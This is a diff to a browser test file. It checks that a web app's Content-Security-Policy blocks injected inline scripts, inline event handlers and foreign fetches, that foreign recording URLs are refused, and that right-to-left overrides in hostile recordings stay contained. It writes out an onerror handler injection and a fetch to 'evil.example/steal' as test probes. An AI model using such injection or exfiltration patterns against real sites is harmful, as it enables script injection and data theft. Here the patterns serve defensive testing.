@@ -1,5 +1,5 @@
 // Safety of the built pages, in Chromium: the Content-Security-Policy on index.html and embed.html (no eval, no
-// inline script, scripts from self only); rec= values that are not this site's recordings or an allowed origin are
+// inline script or handler, scripts from self only, no foreign connection); rec= values that are not this site's recordings or an allowed origin are
 // refused without a request; hostile recordings (HTML and </script> everywhere, right-to-left overrides, a 1 MB
 // single line) are inert: nothing executes, nothing hangs, the layout holds.
 import { readFileSync } from 'node:fs';
@@ -42,7 +42,7 @@ test.each(['index.html', 'embed.html'])('%s carries a CSP: scripts from self onl
   expect(csp['connect-src']).toEqual(["'self'"]);
 });
 
-test.each(['?lang=en', 'embed.html?lang=en'])('the CSP of %s blocks an injected inline script, eval and a foreign fetch', async (path) => {
+test.each(['?lang=en', 'embed.html?lang=en'])('the CSP of %s blocks an injected inline script, an inline handler and a foreign fetch', async (path) => {
   const page = await browser.newPage();
   const violations: string[] = [];
   page.on('console', (m) => {
@@ -55,24 +55,33 @@ test.each(['?lang=en', 'embed.html?lang=en'])('the CSP of %s blocks an injected 
     const s = document.createElement('script');
     s.textContent = 'window.__injected = 1';
     document.head.appendChild(s);
-    let evalError = '';
-    try {
-      (0, eval)('1 + 1');
-    } catch (e) {
-      evalError = (e as Error).name;
-    }
+    // an inline event handler is inline script too
+    const img = document.createElement('img');
+    img.setAttribute('onerror', 'window.__injected = 2');
+    document.body.appendChild(img);
+    img.src = 'data:,not-an-image';
+    await new Promise((resolve) => img.addEventListener('error', resolve));
+    img.remove();
     let fetchError = '';
     try {
       await fetch('https://evil.example/steal');
     } catch (e) {
       fetchError = (e as Error).name;
     }
-    return { injected: w.__injected ?? null, evalError, fetchError };
+    return { injected: w.__injected ?? null, fetchError };
   });
-  expect(outcome).toEqual({ injected: null, evalError: 'EvalError', fetchError: 'TypeError' });
-  expect(violations.some((v) => /inline script/i.test(v))).toBe(true);
+  expect(outcome).toEqual({ injected: null, fetchError: 'TypeError' });
+  expect(violations.filter((v) => /inline (script|event handler)/i.test(v)).length).toBeGreaterThanOrEqual(2);
+  expect(violations.some((v) => /connect-src/.test(v))).toBe(true);
   await page.close();
 });
+
+/** Requests (other than the pages themselves, whose query names the value) to another host or naming `needle`. */
+const fetchedFor = (requests: string[], needle: string) =>
+  requests.filter((u) => {
+    const url = new URL(u);
+    return url.origin !== new URL(appUrl()).origin || (url.pathname + url.hash).includes(needle);
+  });
 
 test.each([
   ['https://evil.example/x.jsonl', 'evil.example'],
@@ -93,12 +102,12 @@ test.each([
   await alert.waitFor();
   await expect(alert.textContent()).resolves.toContain('rec= opens only this site’s recordings');
   await page.waitForTimeout(300);
-  expect(requests.filter((u) => u.includes(needle))).toEqual([]);
+  expect(fetchedFor(requests, needle)).toEqual([]);
   expect(dialogs).toEqual([]);
   // the same in an embed
   await page.goto(appUrl(`embed.html?lang=en&rec=${encodeURIComponent(rec)}`));
   await page.getByRole('alert').filter({ hasText: `Not loading “${rec}”` }).waitFor();
-  expect(requests.filter((u) => u.includes(needle))).toEqual([]);
+  expect(fetchedFor(requests, needle)).toEqual([]);
   await page.close();
 });
 
@@ -178,9 +187,66 @@ test('right-to-left overrides stay inside the recorded strings: nothing runs, th
   const text = readFileSync('test/fixtures/hostile/rtl-override.sse', 'utf8');
   const r = await openHostile('rtl-override.sse', text);
   expectInert(r);
-  // the app's own words after a recorded string are not reversed: the frame's text for the slider is intact
-  const valuetext = await r.page.getByRole('slider', { name: 'Frame', exact: true }).getAttribute('aria-valuetext');
-  expect(valuetext).toMatch(/^Frame \d+ of \d+, /);
+  await r.page.close();
+});
+
+test('a right-to-left override in a recorded string cannot reorder the app’s own words around it', async () => {
+  const text = readFileSync('test/fixtures/hostile/rtl-override.sse', 'utf8');
+  const r = await openHostile('rtl-override.sse', text);
+  await r.page.getByRole('checkbox', { name: 'Compare strategies' }).uncheck();
+  await r.page.getByRole('radio', { name: 'One buffer per call', exact: true }).check();
+  await r.page.getByRole('slider', { name: 'Frame', exact: true }).focus();
+  await r.page.keyboard.press('End');
+  await r.page.getByRole('region', { name: 'Parse results' }).locator('.ss-call').first().waitFor();
+  // An override reaches to the end of its bidi scope: the nearest block or isolate (unicode-bidi isolate, <bdi>).
+  // After the first override in a scope there must be no app words (letters or digits that are not part of a
+  // recorded string): the recorded strings are every string value and event name in the fixture.
+  const recorded = new Set<string>();
+  // (with the JSON's keys and scalars and the SSE field names: a frame's raw text and pretty JSON are recorded too)
+  const collect = (v: unknown): void => {
+    if (typeof v === 'string') {
+      recorded.add(v);
+      // quoted parts of JSON carried inside strings (argument fragments)
+      for (const m of v.matchAll(/"([^"]*)"/g)) recorded.add(m[1]!);
+    } else if (typeof v === 'number' || typeof v === 'boolean' || v === null) recorded.add(String(v));
+    else if (typeof v === 'object') {
+      Object.keys(v).forEach((k) => recorded.add(k));
+      Object.values(v).forEach(collect);
+    }
+  };
+  ['data:', 'event:'].forEach((f) => recorded.add(f));
+  for (const line of text.split('\n')) {
+    if (line.startsWith('event: ')) recorded.add(line.slice(7));
+    if (line.startsWith('data: ') && line !== 'data: [DONE]') collect(JSON.parse(line.slice(6)));
+  }
+  const tokens = [...recorded].filter((t) => t.length > 0).sort((a, b) => b.length - a.length);
+  const leaks = await r.page.evaluate((tokens) => {
+    const BIDI = /[\u202a-\u202e\u2066-\u2068]/;
+    const scopeOf = (el: Element): Element => {
+      for (let e: Element | null = el; e; e = e.parentElement) {
+        const cs = getComputedStyle(e);
+        if (e.tagName === 'BDI' || /isolate|plaintext/.test(cs.unicodeBidi) || (cs.display !== 'inline' && cs.display !== 'contents')) return e;
+      }
+      return document.body;
+    };
+    const out: string[] = [];
+    const seen = new Set<Element>();
+    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+    for (let n = walker.nextNode(); n; n = walker.nextNode()) {
+      const parent = n.parentElement;
+      if (!parent || !BIDI.test(n.nodeValue ?? '') || parent.closest('title, script, style, [hidden]')) continue;
+      const scope = scopeOf(parent);
+      if (seen.has(scope)) continue;
+      seen.add(scope);
+      const whole = scope.textContent ?? '';
+      let masked = whole;
+      for (const t of tokens) masked = masked.split(t).join('\u0001'.repeat(t.length));
+      const first = whole.search(BIDI);
+      if (/[\p{L}\p{N}]/u.test(masked.slice(first))) out.push(`${JSON.stringify(whole.slice(0, 70))} (${scope.tagName.toLowerCase()}.${String(scope.className)})`);
+    }
+    return out;
+  }, tokens);
+  expect(leaks).toEqual([]);
   await r.page.close();
 });
 
